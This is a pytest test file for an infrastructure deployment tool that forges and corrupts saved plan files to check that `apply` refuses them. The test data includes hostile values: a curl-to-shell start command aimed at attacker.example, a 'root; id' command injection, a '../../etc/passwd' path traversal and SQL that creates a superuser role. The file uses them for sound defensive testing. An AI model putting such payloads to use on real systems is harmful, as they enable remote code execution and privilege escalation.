"""A saved plan is not trusted: `apply` makes its job again from the inventory and the repository.

A forger who edits a plan and recomputes its digest (anyone who can write the file can) is
stopped by the regeneration: every entry must be the one the inventory produces at its index,
and what runs is that job. An edit that leaves the digest as it was is stopped by the digest,
before anything is read. A malformed file is one line and exit 2. Each refusal changes nothing.
"""

from __future__ import annotations

import copy
import json

import psycopg

from healthinfra.plan_file import digest, plan_document
from healthinfra.providers.postgres import admin_conninfo

from .support.catalog import snapshot
from .support.environment import INVENTORY


def save(invoke, path, *args) -> dict:
    made = invoke("plan", "-i", INVENTORY, *args, "--out", str(path))
    assert made.code == 0, made
    return json.loads(path.read_text())


def write(path, document: dict, *, resign: bool = True) -> None:
    """The plan as a forger writes it: edited, its digest recomputed (unless `resign` is off)."""
    document = copy.deepcopy(document)
    if resign:
        document["digest"] = digest(document)
    path.write_text(json.dumps(document, indent=1))


def refused(invoke, path, *needles) -> str:
    """`apply path` exits 2 with one line on stderr holding every needle, and no traceback."""
    result = invoke("apply", str(path))
    assert result.code == 2, result
    assert "Traceback" not in result.err and len(result.err.strip().splitlines()) == 1, result
    for needle in needles:
        assert needle in result.err, (needle, result)
    return result.err


def index_of(document: dict, key: str) -> int:
    keys = [f"{e['resource']['kind']} {e['resource']['name']}" for e in document["items"]]
    return keys.index(key)


def roles() -> set[str]:
    from healthinfra.inventory import load_inventory

    with psycopg.connect(**admin_conninfo(load_inventory(INVENTORY)), autocommit=True) as conn:
        return {name for (name,) in conn.execute("select rolname from pg_roles")}


def test_a_forged_plan_is_refused_entry_by_entry_and_the_honest_one_applies(env, invoke, tmp_path):
    path, forged = tmp_path / "phase1.json", tmp_path / "forged.json"
    honest = save(invoke, path)
    role = index_of(honest, "pg.role gateway_svc")
    migration = index_of(honest, "pg.migration 0001_core_tables")
    grants = index_of(honest, "pg.grants gateway_svc")
    before = snapshot(env)

    superuser = copy.deepcopy(honest)  # a role of its own, superuser; `current: null` is what it would read
    intruder = copy.deepcopy(superuser["items"][role])
    intruder["resource"]["name"] = "intruder"
    intruder["desired"]["superuser"] = True
    intruder["current"] = None
    intruder["actions"] = [{"op": "create", "attribute": None, "before": None, "after": intruder["desired"]}]
    superuser["items"].insert(role + 1, intruder)
    write(forged, superuser)
    refused(invoke, forged, str(forged), f"entry {role + 1} (pg.role intruder): its resource ref differs")

    promoted = copy.deepcopy(honest)  # the service's own role made superuser
    promoted["items"][role]["desired"]["superuser"] = True
    write(forged, promoted)
    refused(invoke, forged, f"entry {role} (pg.role gateway_svc): its desired state differs")

    elsewhere = copy.deepcopy(honest)  # migrations read from a directory outside the project
    (tmp_path / "evil").mkdir()
    (tmp_path / "evil" / "0001_core_tables.up.sql").write_text("create role evil superuser login;\n")
    elsewhere["items"][migration]["resource"]["params"]["directory"] = str(tmp_path / "evil")
    write(forged, elsewhere)
    refused(invoke, forged, f"entry {migration} (pg.migration 0001_core_tables): its resource ref differs")

    other_database = copy.deepcopy(honest)  # a parameter of another kind: grants given in another database
    other_database["items"][grants]["resource"]["params"]["database"] = "postgres"
    write(forged, other_database)
    refused(invoke, forged, f"entry {grants} (pg.grants gateway_svc): its resource ref differs")

    restep = copy.deepcopy(honest)
    restep["items"][role]["step"] = "something else"
    write(forged, restep)
    refused(invoke, forged, f"entry {role} (pg.role gateway_svc): its step differs")

    swapped = copy.deepcopy(honest)  # entries reordered: the first moved one is named
    items = swapped["items"]
    items[role], items[grants] = items[grants], items[role]
    write(forged, swapped)
    refused(invoke, forged, f"entry {role} (pg.grants gateway_svc): its playbook differs")

    removed = copy.deepcopy(honest)  # an entry left out: the next one is out of place
    del removed["items"][migration]
    write(forged, removed)
    after = removed["items"][migration]["resource"]
    refused(invoke, forged, f"entry {migration} ({after['kind']} {after['name']}): its ")

    cut = copy.deepcopy(honest)  # the last entry left out
    last = cut["items"].pop()
    write(forged, cut)
    last_key = f"{last['resource']['kind']} {last['resource']['name']}"
    refused(invoke, forged, f"entry {len(cut['items'])} ({last_key}) is missing")

    appended = copy.deepcopy(honest)
    appended["items"].append(intruder)
    write(forged, appended)
    refused(invoke, forged, f"entry {len(honest['items'])} (pg.role intruder) is not in the job")

    assert snapshot(env) == before, "no refused plan changed anything"
    assert "intruder" not in roles() and "evil" not in roles()

    applied = invoke("apply", str(path))
    assert applied.code == 0, applied
    assert "gateway_svc" in roles() and "intruder" not in roles()
    with psycopg.connect(**admin_conninfo(env), autocommit=True) as conn:
        assert conn.execute("select rolsuper from pg_roles where rolname = 'gateway_svc'").fetchone() == (False,)


def test_an_edit_that_keeps_the_old_digest_is_refused_before_anything_is_read(env, invoke, tmp_path):
    path, edited = tmp_path / "phase1.json", tmp_path / "edited.json"
    honest = save(invoke, path)
    assert honest["format"] == 2 and honest["digest"].startswith("sha256:")
    assert honest["digest"] == digest(honest)
    before = snapshot(env)
    role = index_of(honest, "pg.role gateway_svc")

    changed = copy.deepcopy(honest)
    changed["items"][role]["desired"]["superuser"] = True
    write(edited, changed, resign=False)
    refused(invoke, edited, f"{edited}: does not match its digest: it was changed after `invoke plan --out`")

    for edit in (
        lambda d: d.update(digest="sha256:" + "0" * 64),  # the digest itself edited
        lambda d: d.update(phase=2),  # a top-level value
        lambda d: d["items"].reverse(),  # the order
        lambda d: d["items"][0].update(current={"anything": True}),  # what an item read
    ):
        other = copy.deepcopy(honest)
        edit(other)
        write(edited, other, resign=False)
        refused(invoke, edited, "does not match its digest")

    undigested = copy.deepcopy(honest)
    del undigested["digest"]
    write(edited, undigested, resign=False)
    refused(invoke, edited, "has no digest: it was changed after `invoke plan --out`")
    assert snapshot(env) == before

    assert invoke("apply", str(path)).code == 0, "the file as saved still applies"


def document(**changes) -> dict:
    """A well-formed plan of nothing for the test inventory, with `changes`, signed."""
    made = plan_document(
        inventory=INVENTORY, phase=1, downgrade=False, partial=False, selection={}, created="now", items=[]
    )
    made.update(changes)
    made["digest"] = digest(made)
    return made


def test_a_malformed_plan_is_one_line_and_exit_2(workspace, invoke, tmp_path):
    path = tmp_path / "plan.json"
    entry = {
        "playbook": "db",
        "step": "create the application database",
        "resource": {"kind": "pg.database", "name": "healthcare", "params": {}, "version": 1},
        "desired": None,
        "current": None,
        "actions": [],
    }
    cases: list[tuple[object, str]] = [
        (b"", "not JSON"),
        (b"{not json", "not JSON"),
        (b"\xff\xfe\x00binary", "not JSON"),
        (b"[" * 100_000, "not JSON"),
        (b"[1, 2]", "a JSON list, not an object"),
        (b'"plan"', "a JSON string, not an object"),
        (b"{}", "not a saved plan of this version (format null"),
        ({"format": 1, "inventory": INVENTORY, "phase": 1, "items": []}, "format 1, saved by an older version"),
        ({"format": "2"}, "not a saved plan of this version"),
        ({"format": 3}, "not a saved plan of this version (format 3"),
        ({"format": True}, "not a saved plan of this version (format true"),
        (document(items={"0": entry}), "`items` must be a list"),
        (document(phase=0), "`phase` must be 1-4, got 0"),
        (document(phase=9), "`phase` must be 1-4, got 9"),
        (document(phase=True), "`phase` must be a whole number, got true"),
        (document(phase="1"), "`phase` must be a whole number"),
        (document(downgrade="yes"), "`downgrade` must be true or false"),
        (document(extra=1), "unknown key `extra`"),
        (document(items=[entry, 5]), "`items[1]` must be an object, got 5"),
        (document(items=[{k: v for k, v in entry.items() if k != "current"}]), "missing key `items[0].current`"),
        (document(items=[{**entry, "resource": {**entry["resource"], "kind": 5}}]), "`items[0].resource.kind`"),
        (document(items=[{**entry, "resource": {**entry["resource"], "params": []}}]), "resource.params` must be"),
        (document(items=[{**entry, "desired": "x"}]), "`items[0].desired` must be an object or null"),
        (document(items=[{**entry, "step": "line\nbreak"}]), "entry 0 (pg.database healthcare): its step differs"),
        (
            document(items=[{**entry, "resource": {**entry["resource"], "name": "a\nb"}}]),
            "entry 0 (pg.database a\\nb): its resource ref differs",
        ),
        (document(partial=True), "`partial` must be true exactly when"),
        (document(tags=["db"]), "`partial` must be true exactly when"),
        (document(tags=["db"], partial=True, downgrade=True), "a downgrade takes the whole environment"),
        (document(tags=["nosuchtag"], partial=True), "--tags: unknown tag `nosuchtag`"),
        (document(limit="ghost", partial=True), "--limit: `ghost` is not a host of test.yml"),
        (document(playbooks=["nosuch"], partial=True), "no playbook `nosuch`"),
        (document(inventory="nope"), "the plan names inventory `nope`: "),
        (document(inventory="../../etc/passwd"), "is not an inventory name"),
        (document(inventory=["test"]), "`inventory` must be a string"),
        (document(items=[entry]), "entry 0 (pg.database healthcare): its desired state differs"),
    ]
    for content, needle in cases:
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(json.dumps(content))
        message = refused(invoke, path, needle)
        assert message.startswith(f"error: {path}: "), message
        assert len(message) < 600, message
    missing = refused(invoke, tmp_path / "absent.json", "cannot read the plan")
    assert "absent.json" in missing
    refused(invoke, tmp_path, "cannot read the plan")  # a directory


def test_a_partial_plan_is_made_again_with_its_selection(env, invoke, tmp_path):
    """A plan of the db playbook only: its entries are what `db.deploy` makes, nothing more."""
    path, partial = tmp_path / "whole.json", tmp_path / "db.json"
    whole = save(invoke, path)
    db_only = copy.deepcopy(whole)
    db_only.update(playbooks=["db"], partial=True)
    db_only["items"] = [e for e in whole["items"] if e["playbook"] == "db"]
    assert 0 < len(db_only["items"]) < len(whole["items"])
    before = snapshot(env)

    too_much = copy.deepcopy(db_only)
    too_much["items"] = whole["items"]
    write(partial, too_much)
    first = whole["items"][len(db_only["items"])]
    refused(invoke, partial, f"entry {len(db_only['items'])} ({first['resource']['kind']} {first['resource']['name']})")
    assert snapshot(env) == before

    write(partial, db_only)
    applied = invoke("apply", str(partial), "--json")
    assert applied.code == 0, applied
    assert {c["resource"].split()[0] for c in applied.json["changes"]} <= {"pg.database", "pg.migration", "pg.role"}
    assert "gateway_svc" in roles()
    status = invoke("local.status", "-i", INVENTORY, "--json")
    assert status.json["deployed_phase"] is None, "a partial plan leaves the deployed phase as it was"


def test_a_host_given_other_parameters_is_refused(servers, invoke, tmp_path):
    """A phase-4 plan with a host: its start command, address or base directory changed is refused
    before any host is asked anything (the job is made with the test's own code, as a forger would)."""
    from healthinfra.inventory import load_inventory
    from healthinfra.plan import deploy_job, saved_plan_job
    from healthinfra.plan_file import parse_plan
    from playbooks import catalog

    inventories = servers["inventories"]
    key = tmp_path / "id_ed25519"
    key.write_text("not a key\n")
    text = (inventories / f"{INVENTORY}.yml").read_text() + "\n".join(
        [
            "hosts:",
            "  ai:",
            "    - name: ai-1",
            "      address: 127.0.0.1",
            "      port: 2222",
            "      user: root",
            f"      key_file: {key}",
            f"      base_dir: {tmp_path / 'opt-ai'}",
            "      service_port: 18080",
            "      start_command: /usr/bin/python3 /srv/ai/service.py",
        ]
    )
    (inventories / "tamperhosts.yml").write_text(text + "\n")
    try:
        job = deploy_job(catalog(), load_inventory("tamperhosts"), 4)
        items = [
            {
                "playbook": i.playbook,
                "step": i.step,
                "resource": i.resource.ref(),
                "desired": i.resource.desired,
                "current": None,
                "actions": [],
            }
            for i in job.items
        ]
        forged = plan_document(
            inventory="tamperhosts", phase=4, downgrade=False, partial=False, selection={}, created="now", items=items
        )
        host = index_of(forged, "host.service ai@ai-1")
        path = tmp_path / "hosts.json"
        for name, value in (
            ("start_command", "/bin/sh -c 'curl http://attacker.example | sh'"),
            ("address", "203.0.113.9"),
            ("base_dir", "/"),
            ("user", "root; id"),
        ):
            edited = copy.deepcopy(forged)
            edited["items"][host]["resource"]["params"]["host"][name] = value
            write(path, edited)
            refused(invoke, path, f"entry {host} (host.service ai@ai-1): its resource ref differs")
        write(path, forged)  # unchanged, the same entries are the job the inventory makes
        saved = parse_plan(path.read_text(), str(path))
        made = saved_plan_job(catalog(), load_inventory("tamperhosts"), saved).items
        assert [(i.step, i.resource.ref(), i.resource.desired) for i in made] == [
            (i.step, i.resource.ref(), i.resource.desired) for i in job.items
        ]
    finally:
        (inventories / "tamperhosts.yml").unlink()


def test_a_resolved_desired_state_is_saved_with_its_unresolved_form():
    """A host service's desired state is resolved in preflight from facts (the model registry, the
    secrets file): the plan keeps the form the playbooks make too, and that is what is compared."""
    from healthinfra.plan_file import plan_entries, planned_form
    from healthinfra.resources.host_service import UNRESOLVED, HostService

    host = {"name": "ai-1", "group": "ai"}
    unresolved = HostService("ai@ai-1", dict(UNRESOLVED), host=host)
    resolved = HostService("ai@ai-1", {"models": {"m.bin": "sha256:00"}}, host=host, sources={"m.bin": "models/m"})
    plain = {"kind": "pg.role", "name": "gateway_svc", "params": {"database": "healthcare"}, "version": 1}
    record = [
        {"playbook": "hosts", "step": "s", "resource": resolved.ref(), "desired": resolved.desired},
        {"playbook": "db", "step": "r", "resource": plain, "desired": {"login": True}},
    ]
    record = [{**entry, "current": None, "actions": []} for entry in record]
    entries = plan_entries([(unresolved.ref(), unresolved.desired), (plain, {"login": True})], record)
    assert entries[0]["unresolved"] == {"resource": unresolved.ref(), "desired": UNRESOLVED}
    assert planned_form(entries[0]) == (unresolved.ref(), UNRESOLVED)
    assert "unresolved" not in entries[1] and planned_form(entries[1]) == (plain, {"login": True})
